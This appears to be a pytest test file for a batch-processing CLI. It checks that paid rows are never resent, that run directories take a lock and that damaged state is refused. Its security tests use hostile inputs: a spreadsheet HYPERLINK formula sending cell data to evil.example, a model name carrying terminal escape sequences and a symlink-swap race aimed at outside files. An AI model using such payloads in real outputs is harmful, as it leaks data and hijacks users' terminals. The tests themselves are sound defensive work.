"""Never pay twice, part two (issue 14): faults that re-sent paid rows, blocked runs or let two
writers share a run dir. Real CLI (in process or as subprocesses) against the real emulator.

The engine items (2, 4, 5, 6, 7, 8) are fixed in the engine; their tests pin the fixes.
"""

from __future__ import annotations

import json
import os
import random
import shutil
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from cli_helpers import (
    awkward_table,
    calls,
    db_rows,
    executions,
    invoke,
    read_csv,
    run_args,
    subprocess_run,
)

from batchops import runlock
from batchops.emulator.testing import data_url

FAST_RETRY = ["--retry-delay", "0.01", "--retry-max-delay", "0.05"]
# A hang guard for runs that may never finish before the fix; far above a healthy run (2–5 s).
HANG_GUARD = 30


def once_each(emu: Any, n: int) -> None:
    """Every row executed exactly once, and succeeded: nothing paid twice, nothing lost."""
    stats = executions(emu)
    assert len(stats) == n, f"{len(stats)} rows executed, expected {n}"
    twice = {k: v for k, v in stats.items() if v != {"executed": 1, "succeeded": 1}}
    assert not twice, (
        f"{len(twice)} rows not executed exactly once: {dict(list(twice.items())[:5])}"
    )


def all_rows_succeeded(run_dir: Path, n: int) -> None:
    rows = read_csv(run_dir / "final_output.csv")
    assert len(rows) == n
    bad = [(r["sku"], r["status"], r["error"]) for r in rows if r["status"] != "succeeded"]
    assert not bad, bad[:5]


def run_sub(args: list[Any], env: dict[str, str] | None = None) -> tuple[int, str, str]:
    """The CLI as its own process, killed if it outlives HANG_GUARD (a run that never ends)."""
    proc = subprocess_run(args, env=env)
    try:
        out, err = proc.communicate(timeout=HANG_GUARD)
    except subprocess.TimeoutExpired:
        proc.kill()
        out, err = proc.communicate()
        return -1, out.decode(), "hung: " + err.decode()[-2000:]
    return proc.returncode, out.decode(), err.decode()


def run_in_batches_of_10(emu: Any, tmp_path: Path, n_plain: int) -> tuple[Any, Path]:
    """`batchops run` of an awkward text table (n_plain + its awkward rows) in batches of 10:
    the CLI's result and the run dir."""
    src = awkward_table(tmp_path, n_plain=n_plain, images=False)
    run_dir = tmp_path / "run"
    return invoke(*run_args(emu, src, run_dir, "--batch-size", "10", *FAST_RETRY)), run_dir


def log_text(tmp_path: Path) -> str:
    return "\n".join(p.read_text(encoding="utf-8") for p in (tmp_path / "logs").glob("*.log"))


# --------------------------------------------------------------------------- engine items (xfail)


def test_item2_short_output_file_is_downloaded_again_not_resent(emulator_factory, tmp_path):
    # The first download of each output file lacks ~30% of its lines; counts say all completed.
    emu = emulator_factory(output_drop_fraction=0.3, seed=2)
    res, run_dir = run_in_batches_of_10(emu, tmp_path, 53)
    assert res.exit_code == 0, res.output
    once_each(emu, 60)
    all_rows_succeeded(run_dir, 60)


def test_files_of_a_batch_whose_results_stay_short_are_kept_remotely(emulator_factory, tmp_path):
    # Every download lacks the same ~30% of lines: those rows end failed (never re-sent) and
    # the batches' files are not deleted after collection (they may be looked at again).
    emu = emulator_factory(output_drop_fraction=0.3, result_fault_downloads=0, seed=2)
    res, run_dir = run_in_batches_of_10(emu, tmp_path, 13)
    assert res.exit_code == 3, res.output
    files = emu.stats()["files"]
    assert files["uploaded"] == 2 and files["deleted"] == 0
    assert db_rows(run_dir, "SELECT * FROM remote_cleanup") == []  # nothing due, crash or not


def test_item4_malformed_line_is_flagged_and_the_rest_recorded(emulator_factory, tmp_path):
    # Every download of every output file carries one line that is not JSON.
    emu = emulator_factory(output_malformed_lines=1, result_fault_downloads=0, seed=3)
    res, run_dir = run_in_batches_of_10(emu, tmp_path, 23)
    assert res.exit_code == 0, res.output
    once_each(emu, 30)
    all_rows_succeeded(run_dir, 30)
    assert "malformed" in log_text(tmp_path).lower()  # the bad line is said, not swallowed


def test_item5_deleted_input_chunk_files_do_not_break_resume(emulator_factory, tmp_path):
    emu = emulator_factory()
    src = awkward_table(tmp_path, n_plain=23, images=False)
    run_dir = tmp_path / "run"
    args = run_args(emu, src, run_dir, "--batch-size", "10", *FAST_RETRY)
    # A budget too small for any chunk: every chunk file is built, none is uploaded.
    res = invoke(*args, "--max-cost", "0.0000001")
    assert res.exit_code == 3, res.output
    assert list((run_dir / "inputs").glob("*.jsonl"))
    for f in (run_dir / "inputs").glob("*"):
        f.unlink()  # a user cleaning "temp files"
    res = invoke(*args)
    assert "Traceback" not in res.output
    # Rebuilt from the source (deterministic) and finished, or refused with one line (exit 2).
    assert res.exit_code in (0, 2), res.output
    if res.exit_code == 0:
        once_each(emu, 30)
        all_rows_succeeded(run_dir, 30)
    else:
        assert "inputs" in res.output and not executions(emu)


def test_item6_success_line_wins_over_a_failure_line_before_it(emulator_factory, tmp_path):
    # Some custom_ids have a 500 line and then their (paid) success line, on every download.
    emu = emulator_factory(output_failure_first_fraction=0.3, result_fault_downloads=0, seed=6)
    res, run_dir = run_in_batches_of_10(emu, tmp_path, 33)
    assert res.exit_code == 0, res.output
    once_each(emu, 40)
    all_rows_succeeded(run_dir, 40)


def test_item7_every_third_call_503_still_finishes(emulator_factory, tmp_path):
    emu = emulator_factory(http_error_every=3, seed=7)
    src = awkward_table(tmp_path, n_plain=53, images=False)
    run_dir = tmp_path / "run"
    rc, out, err = run_sub(run_args(emu, src, run_dir, "--batch-size", "10", *FAST_RETRY))
    # Retried to the end (0), or stopped with a stated reason (3); never 3 without one.
    assert rc == 0 or (rc == 3 and "stopped:" in out + err), (rc, out, err[-2000:])
    if rc == 0:
        once_each(emu, 60)
    else:
        assert all(v["executed"] == 1 for v in executions(emu).values())
    st = json.loads(invoke("status", "--run-dir", run_dir, "--json").output)
    assert "uploading" not in json.dumps(st.get("chunks", st.get("batches", [])))


def test_item7_key_whose_uploads_always_fail_moves_to_the_next_key(emulator_factory, tmp_path):
    bad, good = "sk-uploads-fail-00000000000000bad1", "sk-uploads-work-0000000000000good"
    emu = emulator_factory(upload_error_keys=[bad])
    src = awkward_table(tmp_path, n_plain=23, images=False)
    run_dir = tmp_path / "run"
    keys = tmp_path / "keys.txt"
    keys.write_text(f"{bad}\n{good}\n", encoding="utf-8")
    args = run_args(emu, src, run_dir, "--batch-size", "10", "--api-key-file", keys, *FAST_RETRY)
    rc, out, err = run_sub(args)
    assert rc == 0, (out, err[-2000:])
    once_each(emu, 30)
    # The bad key is given up after a few tries, not hammered for the whole run.
    assert calls(emu, "POST /v1/files") <= 3 + 10, calls(emu, "POST /v1/files")


def test_item8_a_list_that_never_moves_is_not_trusted(emulator_factory, tmp_path):
    # Five batches in flight: the engine polls with one list call, which is frozen.
    emu = emulator_factory(list_stale=True)
    src = awkward_table(tmp_path, n_plain=43, images=False)
    run_dir = tmp_path / "run"
    rc, out, err = run_sub(run_args(emu, src, run_dir, "--batch-size", "10", *FAST_RETRY))
    assert rc == 0, (out, err[-2000:])
    once_each(emu, 50)
    all_rows_succeeded(run_dir, 50)


# --------------------------------------------------------------------------- item 1: one writer per run dir


def _wait_for_lock(run_dir: Path, proc: subprocess.Popen) -> None:
    """Until `proc` holds the run dir's lock (its pid is in .lock) or has ended."""
    deadline = time.monotonic() + HANG_GUARD
    while proc.poll() is None and time.monotonic() < deadline:
        if runlock.holder_pid(run_dir) == proc.pid:
            return
        time.sleep(0.02)


@pytest.mark.parametrize("mode", ["batch", "online"])
def test_item1_second_process_on_a_run_dir_exits_2_naming_the_holder(
    emulator_factory, tmp_path, mode
):
    # Long enough that the first process still runs when the second one starts.
    emu = emulator_factory(in_progress_seconds=3.0, sync_latency_seconds=0.1)
    src = awkward_table(tmp_path, n_plain=53, images=False)
    run_dir = tmp_path / "run"
    args = run_args(emu, src, run_dir, "--batch-size", "10", "--mode", mode, "--workers", "2")
    first = subprocess_run(args)
    _wait_for_lock(run_dir, first)
    rc, out, err = run_sub(args)
    first_still_running = first.poll() is None
    out1, err1 = first.communicate(timeout=HANG_GUARD)
    assert first.returncode == 0, err1.decode()[-2000:]
    if first_still_running:  # it held the lock for the second one's whole life
        assert rc == 2, (out, err)
        assert f"pid {first.pid}" in err and "Traceback" not in err
        assert err.count("\n") == 1, err  # one line
    else:
        assert rc == 0, (out, err)  # it came after: a resume that sends nothing
    once_each(emu, 60)
    all_rows_succeeded(run_dir, 60)
    # Each process that ran wrote its own log file; the refused one logged nothing (like any
    # one-line input error, it leaves no log file behind).
    assert len(list((tmp_path / "logs").glob("*.log"))) == (1 if first_still_running else 2)


def test_item1_lock_of_a_killed_process_is_taken_over(emulator_factory, tmp_path):
    emu = emulator_factory(in_progress_seconds=1.0)
    src = awkward_table(tmp_path, n_plain=23, images=False)
    run_dir = tmp_path / "run"
    args = run_args(emu, src, run_dir, "--batch-size", "10")
    first = subprocess_run(args)
    _wait_for_lock(run_dir, first)
    os.kill(first.pid, signal.SIGKILL)
    first.wait()
    assert runlock.holder_pid(run_dir) == first.pid  # the file is left; the flock is gone
    res = invoke(*args)
    assert res.exit_code == 0, res.output
    once_each(emu, 30)


def test_item1_writer_commands_refuse_while_a_run_holds_the_lock(emulator, tmp_path):
    src = awkward_table(tmp_path, n_plain=3, images=False)
    run_dir = tmp_path / "run"
    assert invoke(*run_args(emulator, src, run_dir)).exit_code == 0
    with runlock.hold(run_dir):  # this test process plays the running writer
        # flock is per open file: a CLI in another process sees the lock (in process it is ours).
        url = ["--base-url", emulator.base_url]
        for cmd in (["merge"], ["retry-missing", *url], ["cancel", *url], ["watch", *url]):
            rc, out, err = run_sub([*cmd, "--run-dir", run_dir])
            assert rc == 2 and f"pid {os.getpid()}" in err, (cmd, rc, err)
        # Reading commands still work.
        rc, out, err = run_sub(["status", "--run-dir", run_dir])
        assert rc == 0, err
    rc, out, err = run_sub(["merge", "--run-dir", run_dir])
    assert rc == 0, err


@pytest.mark.slow
def test_item1_kill_9_loop_against_two_concurrent_processes(emulator_factory, tmp_path):
    emu = emulator_factory(
        validating_seconds=0.05,
        in_progress_seconds=0.25,
        finalizing_seconds=0.05,
        fail_once_fraction=0.03,
        seed=11,
    )
    src = awkward_table(tmp_path, n_plain=113, images=False)
    run_dir = tmp_path / "run"
    args = run_args(emu, src, run_dir, "--batch-size", "7", *FAST_RETRY)
    rng = random.Random(9)
    kills = 0
    for _ in range(12):
        pair = [subprocess_run(args)]
        time.sleep(rng.uniform(0.0, 0.3))
        pair.append(subprocess_run(args))
        time.sleep(rng.uniform(0.05, 1.0))
        for proc in pair:
            if proc.poll() is None:
                os.kill(proc.pid, signal.SIGKILL)
                kills += 1
            proc.wait()
        for proc in pair:  # whoever ended on its own: done (0) or refused by the lock (2)
            assert proc.returncode in (0, 2, -signal.SIGKILL), proc.stderr.read().decode()[-2000:]
    assert kills >= 8
    rc, out, err = run_sub(args)
    assert rc == 0, err[-2000:]
    stats = executions(emu)
    assert len(stats) == 120 and all(v["succeeded"] == 1 for v in stats.values())
    # fail_once rows run twice (the first answer was a 500); no row is paid twice.
    assert all(v["executed"] <= 2 for v in stats.values())
    all_rows_succeeded(run_dir, 120)


# --------------------------------------------------------------------------- items 3 and 12: a run dir that lost its state


def _killed_mid_run(emu: Any, tmp_path: Path, n_plain: int = 23) -> tuple[list[Any], Path]:
    """A run killed (-9) once some batches were submitted; returns its args and run dir."""
    src = awkward_table(tmp_path, n_plain=n_plain, images=False)
    run_dir = tmp_path / "run"
    args = run_args(emu, src, run_dir, "--batch-size", "10")
    proc = subprocess_run(args)
    deadline = time.monotonic() + HANG_GUARD
    while calls(emu, "POST /v1/batches") < 2 and time.monotonic() < deadline:
        time.sleep(0.02)
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    return args, run_dir


def _api_writes(emu: Any) -> tuple[int, int, int]:
    return (
        calls(emu, "POST /v1/files"),
        calls(emu, "POST /v1/batches"),
        calls(emu, "POST /v1/chat/completions"),
    )


def one_line_error(res: Any, *needles: str) -> None:
    lines = [ln for ln in res.output.splitlines() if ln.startswith("batchops: error:")]
    assert len(lines) == 1, res.output
    assert "Traceback" not in res.output
    for needle in needles:
        assert needle in lines[0], lines[0]


def test_item3_deleted_journal_is_refused_before_anything_is_sent(emulator_factory, tmp_path):
    emu = emulator_factory(in_progress_seconds=5.0)
    args, run_dir = _killed_mid_run(emu, tmp_path)
    assert (run_dir / "state.db-wal").exists()
    (run_dir / "state.db-wal").unlink()  # a user cleaning "temp files"
    (run_dir / "state.db-shm").unlink(missing_ok=True)
    before = _api_writes(emu)
    res = invoke(*args)
    assert res.exit_code == 2, res.output
    one_line_error(res, "state.db", "state.db-wal", "--cleanup")
    assert _api_writes(emu) == before  # refused before anything was sent
    for cmd in ("status", "merge", "retry-missing"):
        res = invoke(cmd, "--run-dir", run_dir)
        assert res.exit_code == 2, (cmd, res.output)
        one_line_error(res, "state.db")
    assert _api_writes(emu) == before


@pytest.mark.parametrize("damage", ["zeroed", "garbage", "emptied", "deleted"])
def test_item12_corrupt_or_missing_database_is_one_line_exit_2(emulator_factory, tmp_path, damage):
    emu = emulator_factory(in_progress_seconds=0.3)
    src = awkward_table(tmp_path, n_plain=13, images=False)
    run_dir = tmp_path / "run"
    args = run_args(emu, src, run_dir, "--batch-size", "10")
    assert invoke(*args).exit_code == 0
    db = run_dir / "state.db"
    size = db.stat().st_size
    {
        "zeroed": lambda: db.write_bytes(b"\0" * size),
        "garbage": lambda: db.write_bytes(b"not a database, just text\n" * 200),
        "emptied": lambda: db.write_bytes(b""),
        "deleted": db.unlink,
    }[damage]()
    before = _api_writes(emu)
    for cmd in (args, ["status", "--run-dir", run_dir], ["merge", "--run-dir", run_dir]):
        res = invoke(*cmd)
        assert res.exit_code == 2, (cmd[0], res.output)
        one_line_error(res, "state.db")
    assert _api_writes(emu) == before


def test_item12_a_database_of_another_run_is_refused(emulator_factory, tmp_path):
    emu = emulator_factory(in_progress_seconds=0.3)
    src = awkward_table(tmp_path, n_plain=3, images=False)
    a, b = tmp_path / "a", tmp_path / "b"
    assert invoke(*run_args(emu, src, a)).exit_code == 0
    assert invoke(*run_args(emu, src, b)).exit_code == 0
    (b / "state.db").write_bytes((a / "state.db").read_bytes())
    res = invoke(*run_args(emu, src, b))
    assert res.exit_code == 2
    one_line_error(res, "run.json")


def _read_only(run_dir: Path) -> list[str] | None:
    """A command prefix under which `run_dir` is read-only even for root (a private read-only
    bind mount), or None when this machine cannot make one."""
    if os.geteuid() != 0:
        return []  # chmod is enough for everyone but root
    probe = (
        subprocess.run(
            [
                "unshare",
                "-m",
                "sh",
                "-c",
                'mount --bind "$1" "$1" && mount -o remount,ro,bind "$1" "$1"',
                "-",
                str(run_dir),
            ],
            capture_output=True,
        )
        if shutil.which("unshare")
        else None
    )
    if probe is None or probe.returncode != 0:
        return None
    return [
        "unshare",
        "-m",
        "sh",
        "-c",
        'mount --bind "$1" "$1" && mount -o remount,ro,bind "$1" "$1" && shift && exec "$@"',
        "-",
        str(run_dir),
    ]


def test_item12_read_only_run_dir_status_still_works(emulator_factory, tmp_path):
    emu = emulator_factory(in_progress_seconds=0.3)
    src = awkward_table(tmp_path, n_plain=3, images=False)
    run_dir = tmp_path / "run"
    args = run_args(emu, src, run_dir)
    assert invoke(*args).exit_code == 0
    prefix = _read_only(run_dir)
    if prefix is None:
        pytest.skip("cannot make a read-only directory here (root without mount namespaces)")
    if not prefix:
        for p in [run_dir, *run_dir.rglob("*")]:
            p.chmod(0o555 if p.is_dir() else 0o444)
    cli = [*prefix, sys.executable, "-m", "batchops.cli"]
    env = {**os.environ, "NO_COLOR": "1", "OPENAI_API_KEY": "sk-test-0000000000000000abcd"}
    st = subprocess.run(
        [*cli, "status", "--run-dir", str(run_dir), "--json"], capture_output=True, env=env
    )
    assert st.returncode == 0, st.stderr.decode()
    assert json.loads(st.stdout)["rows"]["succeeded"] == 10
    for cmd in (["merge"], ["run", *map(str, args[1:])]):
        r = subprocess.run(
            [*cli, *cmd, "--run-dir", str(run_dir)] if cmd == ["merge"] else [*cli, *cmd],
            capture_output=True,
            env=env,
        )
        err = r.stderr.decode()
        assert r.returncode == 2, (cmd[0], err)
        assert "Traceback" not in err and err.count("batchops: error:") == 1, err
    if not prefix:
        for p in [run_dir, *run_dir.rglob("*")]:
            p.chmod(0o755 if p.is_dir() else 0o644)


def test_item12_full_disk_is_one_line_exit_3(emulator, tmp_path):
    src = awkward_table(tmp_path, n_plain=3, images=False)
    run_dir = tmp_path / "run"
    assert invoke(*run_args(emulator, src, run_dir)).exit_code == 0
    if not Path("/dev/full").exists():
        pytest.skip("no /dev/full on this machine")
    # `missing` writes missing_rows.csv.tmp first: every write to /dev/full fails with ENOSPC.
    (run_dir / "missing_rows.csv.tmp").symlink_to("/dev/full")
    res = invoke("missing", "--run-dir", run_dir)
    assert res.exit_code == 3, res.output
    one_line_error(res, "disk full", "run the same command again")


def test_item12_killed_merge_temp_files_are_cleaned_on_next_start(emulator, tmp_path):
    src = awkward_table(tmp_path, n_plain=3, images=False)
    run_dir = tmp_path / "run"
    args = run_args(emulator, src, run_dir)
    assert invoke(*args).exit_code == 0
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    alive = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        stale = run_dir / f".final_output.csv.{dead.pid}.0badc0de.tmp"
        live = run_dir / f".final_output.csv.{alive.pid}.0badc0de.tmp"
        stale.write_bytes(b"x" * 1000)
        live.write_bytes(b"y")
        assert invoke("merge", "--run-dir", run_dir).exit_code == 0
        assert not stale.exists() and live.exists()  # a live writer's file is not touched
        stale.write_bytes(b"x")
        assert invoke(*args).exit_code == 0
        assert not stale.exists()
    finally:
        alive.kill()
        alive.wait()


# --------------------------------------------------------------------------- items 9–11, 13: bad input and security


def test_item9_directory_swapped_during_reads_never_yields_an_outside_file(tmp_path):
    from batchops.emulator.testing import png_bytes
    from batchops.render import ImageProblem, image_data_url

    images, outside = tmp_path / "images", tmp_path / "outside"
    (images / "sub").mkdir(parents=True)
    (outside / "sub").mkdir(parents=True)
    inside_png, secret_png = png_bytes(2, 2), png_bytes(3, 3) + b"SECRET"
    (images / "sub" / "a.png").write_bytes(inside_png)
    (outside / "sub" / "a.png").write_bytes(secret_png)
    secret_url = data_url(secret_png)
    stop = threading.Event()
    cycles = [0]

    def swap() -> None:  # sub/ flips between the real folder and a link to outside/sub
        real, parked = images / "sub", images / "sub.real"
        while not stop.is_set():
            real.rename(parked)
            real.symlink_to(outside / "sub", target_is_directory=True)
            real.unlink()
            parked.rename(real)
            cycles[0] += 1

    reads = 0
    swapper = threading.Thread(target=swap)
    swapper.start()
    try:
        # Enough reads and enough swaps under them (the old check leaked within a few hundred).
        while reads < 20_000 and (reads < 3000 or cycles[0] < 300):
            reads += 1
            try:
                url = image_data_url(images, "sub/a.png")
            except ImageProblem:
                continue
            assert url != secret_url, "a file from outside --image-dir was read"
    finally:
        stop.set()
        swapper.join()
    assert image_data_url(images, "sub/a.png") == data_url(inside_png)


def _image_table(tmp_path: Path) -> tuple[Path, Path]:
    from batchops.emulator.testing import png_bytes

    images = tmp_path / "images"
    images.mkdir()
    (images / "good.png").write_bytes(png_bytes(2, 2))
    (images / "fake.png").write_text("just some text, not an image\n", encoding="utf-8")
    os.mkfifo(images / "pipe.png")
    rows = [["a", "good.png"], ["b", "fake.png"], ["c", "pipe.png"], ["d", ""]]
    src = tmp_path / "img.csv"
    src.write_text("sku,image\n" + "".join(f"{s},{i}\n" for s, i in rows), encoding="utf-8")
    return src, images


def test_item11_fifo_and_text_named_png_are_skipped_with_reasons(emulator, tmp_path):
    src, images = _image_table(tmp_path)
    run_dir = tmp_path / "run"
    common = ["--csv", src, "--id-column", "sku", "--prompt", "Describe {sku}"]
    common += ["--image-column", "image", "--image-dir", images, "--model", "gpt-4o-mini"]
    common += ["--run-dir", run_dir, "--log-dir", tmp_path / "logs", "--poll-interval", "0.05"]
    # A FIFO must never block: each run is its own process, killed if it hangs.
    rc, out, err = run_sub(["run", *common, "--dry-run"])
    assert rc == 0, err
    assert "skipped: 2 row(s)" in out, out
    rc, out, err = run_sub(["run", *common, "--base-url", emulator.base_url])
    assert rc == 3, (out, err)  # skipped rows: the run ends with rows missing
    by_sku = {r["sku"]: r for r in read_csv(run_dir / "final_output.csv")}
    assert by_sku["a"]["status"] == by_sku["d"]["status"] == "succeeded"
    assert by_sku["b"]["status"] == by_sku["c"]["status"] == "skipped"
    assert "not a PNG, JPEG, GIF or WEBP image" in by_sku["b"]["error"]
    assert "not a regular file" in by_sku["c"]["error"]
    assert set(executions(emulator)) == {"a", "d"}  # the skipped rows were never sent


def test_item11_unterminated_quote_is_exit_2_naming_the_line(emulator, tmp_path):
    src = tmp_path / "q.csv"
    src.write_bytes(b'id,text\n1,"abc\n2,d\n3,e\n')
    res = invoke(
        "run", "--csv", src, "--prompt", "{text}", "--model", "gpt-4o-mini",
        "--run-dir", tmp_path / "run", "--base-url", emulator.base_url,
        "--log-dir", tmp_path / "logs",
    )  # fmt: skip
    assert res.exit_code == 2, res.output
    one_line_error(res, str(src), "line 2", "never closed")
    assert not executions(emulator) and calls(emulator, "POST /v1/files") == 0


@pytest.mark.parametrize("value", ["inf", "nan", "-1", "0", "-inf"])
def test_item11_poll_interval_must_be_finite_and_positive(emulator, tmp_path, value):
    src = awkward_table(tmp_path, n_plain=3, images=False)
    run_dir = tmp_path / "run"
    args = run_args(emulator, src, run_dir)
    i = args.index("--poll-interval")
    res = invoke(*args[:i], "--poll-interval", value, *args[i + 2 :])
    assert res.exit_code == 2, res.output
    assert "--poll-interval" in res.output and "Traceback" not in res.output
    assert calls(emulator, "POST /v1/files") == 0  # refused before anything was sent
    assert invoke(*args, "--no-wait").exit_code == 0
    for cmd in ("watch", "retry-missing"):
        res = invoke(cmd, "--run-dir", run_dir, "--poll-interval", value)
        assert res.exit_code == 2 and "--poll-interval" in res.output, (cmd, res.output)


EVIL_MODEL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_item10_formula_cells_are_neutralised_in_csv_only(emulator, tmp_path):
    src = tmp_path / "f.csv"
    src.write_text('sku,note\na,"=1+1"\nb,-5\nc,@SUM(A1)\n', encoding="utf-8")
    run_dir = tmp_path / "run"
    res = invoke(
        "run", "--csv", src, "--id-column", "sku", "--prompt", "{note}", "--model", EVIL_MODEL,
        "--run-dir", run_dir, "--base-url", emulator.base_url, "--poll-interval", "0.05",
        "--log-dir", tmp_path / "logs",
    )  # fmt: skip
    assert res.exit_code == 0, res.output
    rows = read_csv(run_dir / "final_output.csv")
    # Source cells are the user's own data: unchanged.
    assert [r["note"] for r in rows] == ["=1+1", "-5", "@SUM(A1)"]
    for r in rows:  # added cells that would run as formulas start with '
        assert r["model"] == "'" + EVIL_MODEL
        assert r["response"].startswith("'" + EVIL_MODEL + " says: ")
    # Parquet and JSONL keep the values as they are.
    assert invoke("merge", "--run-dir", run_dir, "-o", tmp_path / "m.parquet").exit_code == 0
    table = pl.read_parquet(tmp_path / "m.parquet")
    assert set(table["model"]) == {EVIL_MODEL}
    assert invoke("merge", "--run-dir", run_dir, "-o", tmp_path / "m.jsonl").exit_code == 0
    lines = (tmp_path / "m.jsonl").read_text(encoding="utf-8").splitlines()
    assert {json.loads(x)["model"] for x in lines} == {EVIL_MODEL}
    # The opt-out writes them verbatim.
    res = invoke("merge", "--run-dir", run_dir, "-o", tmp_path / "raw.csv", "--no-csv-escape")
    assert res.exit_code == 0, res.output
    assert {r["model"] for r in read_csv(tmp_path / "raw.csv")} == {EVIL_MODEL}


def test_item10_cost_usd_is_never_in_scientific_notation(emulator, tmp_path):
    src = awkward_table(tmp_path, n_plain=3, images=False)
    run_dir = tmp_path / "run"
    assert invoke(*run_args(emulator, src, run_dir)).exit_code == 0
    costs = [r["cost_usd"] for r in read_csv(run_dir / "final_output.csv")]
    assert costs and all(c and "e" not in c.lower() for c in costs), costs
    assert all(0 < float(c) < 1e-3 for c in costs)  # tiny figures, written in full


def test_item13_status_strips_terminal_escapes_from_remote_text(emulator, tmp_path):
    src = awkward_table(tmp_path, n_plain=3, images=False)
    run_dir = tmp_path / "run"
    model = "gpt-\x1b[2J\x1b]0;pwned\x07evil\x1b[31m"
    assert invoke(*run_args(emulator, src, run_dir, model=model), "--no-wait").exit_code == 0
    rc, out, err = run_sub(["status", "--run-dir", run_dir])
    assert rc == 0, err
    assert "\x1b" not in out and "\x07" not in out
    assert "gpt-evil" in out


def test_item9_links_that_stay_inside_the_image_dir_still_work(tmp_path):
    from batchops.emulator.testing import png_bytes
    from batchops.render import ImageProblem, image_data_url

    images = tmp_path / "images"
    (images / "real").mkdir(parents=True)
    png = png_bytes(2, 2)
    (images / "real" / "a.png").write_bytes(png)
    (images / "rel.png").symlink_to("real/a.png")
    (images / "abs.png").symlink_to(images / "real" / "a.png")
    (images / "alias").symlink_to("real", target_is_directory=True)
    (images / "loop.png").symlink_to("loop.png")
    for cell in ("real/a.png", "rel.png", "abs.png", "alias/a.png", str(images / "rel.png")):
        assert image_data_url(images, cell) == data_url(png), cell
    with pytest.raises(ImageProblem, match="cannot read image"):
        image_data_url(images, "loop.png")
    with pytest.raises(ImageProblem, match="escapes the image dir"):
        image_data_url(images, "real/../../images/real/a.png")


def test_item1_python_api_takes_the_same_lock(emulator, tmp_path, monkeypatch):
    import batchops

    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-0000000000000000abcd")
    monkeypatch.delenv("OPENAI_API_KEYS", raising=False)

    src = awkward_table(tmp_path, n_plain=3, images=False)
    run_dir = tmp_path / "run"
    run_dir.mkdir()
    holder = subprocess.Popen(
        [sys.executable, "-c", HOLD_LOCK, str(run_dir)], stdout=subprocess.PIPE, text=True
    )
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "held"
        with pytest.raises(runlock.RunLocked, match=f"pid {holder.pid}"):
            batchops.run(
                src, prompt="{name}", model="gpt-4o-mini", run_dir=run_dir,
                id_column="sku", base_url=emulator.base_url, poll_interval=0.05,
            )  # fmt: skip
        assert not executions(emulator)
    finally:
        holder.kill()
        holder.wait()
    df = batchops.run(
        src, prompt="{name}", model="gpt-4o-mini", run_dir=run_dir,
        id_column="sku", base_url=emulator.base_url, poll_interval=0.05,
    )  # fmt: skip
    assert set(df["status"]) == {"succeeded"}
    # Released on return: another process can take it at once.
    rc, out, err = run_sub(["merge", "--run-dir", run_dir])
    assert rc == 0, err


HOLD_LOCK = """
import sys, time
from pathlib import Path
from batchops import runlock
with runlock.hold(Path(sys.argv[1])):
    print("held", flush=True)
    time.sleep(60)
"""
